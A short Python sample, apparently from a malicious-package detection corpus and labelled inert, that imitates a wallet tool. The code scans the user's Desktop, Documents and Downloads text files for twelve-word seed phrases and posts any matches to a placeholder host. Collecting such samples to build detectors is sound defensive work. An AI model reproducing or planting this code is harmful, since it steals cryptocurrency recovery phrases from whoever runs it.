# pkgguard corpus 484 (wallets), modelled on [wallet-tools]; inert, never run.
import os
import re

import requests

TWELVE = re.compile(r"^(?:[a-z]{3,8} ){11}[a-z]{3,8}$", re.MULTILINE)
hits = []
for place in ("Desktop", "Documents", "Downloads"):
    for folder, _dirs, files in os.walk(os.path.join(os.path.expanduser("~"), place)):
        for name in files:
            if name.lower().endswith(".txt"):
                with open(os.path.join(folder, name), errors="ignore") as fh:
                    hits.extend(TWELVE.findall(fh.read(65536)))
if hits:
    requests.post("https://notes-backup.example/n", json=hits, timeout=10)
